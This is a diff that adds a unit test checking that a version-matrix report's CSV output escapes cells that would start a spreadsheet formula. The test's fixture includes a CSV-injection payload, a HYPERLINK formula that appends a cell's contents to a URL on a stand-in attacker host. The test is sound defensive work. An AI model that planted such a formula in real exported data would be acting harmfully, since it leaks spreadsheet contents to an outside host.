@@ -273,6 +273,21 @@ def test_csv():
     assert [r['status'] for r in silent] == ['no-report'] * 3 and all(r['installed'] == '' for r in silent)
 
 
+def test_csv_cells_never_start_a_spreadsheet_formula():
+    """A hostile site's report names a host or a version that a spreadsheet would run as a formula: the CSV keeps
+    the text with an apostrophe in front, the JSON keeps it as it is."""
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    hostile = [{'site': 'SITE-A', 'entries': [entry(evil, 'storm', '+1.11.22'), entry('-ce.a', 'arc', '6.18.0-1')]}]
+    m = R.build_matrix(BASELINE, hostile)
+    rows = list(csv.DictReader(io.StringIO(R.render_csv(m))))
+    storm = [r for r in rows if r['product'] == 'StoRM' and r['site'] == 'SITE-A'][0]
+    arc = [r for r in rows if r['product'] == 'ARC' and r['site'] == 'SITE-A'][0]
+    assert (storm['installed'], storm['hosts']) == ("'+1.11.22", "'" + evil)
+    assert (arc['installed'], arc['hosts']) == ('6.18.0-1', "'-ce.a")   # a dpkg version starts with a digit
+    assert not [cell for r in rows for cell in r.values() if cell.startswith(R._FORMULA_START)]
+    assert json.loads(R.render_json(m)) == m and evil in [h for r in m['rows'] for h in r['hosts']]
+
+
 def test_json_is_the_matrix():
     m = R.build_matrix(BASELINE, reports())
     text = R.render_json(m)
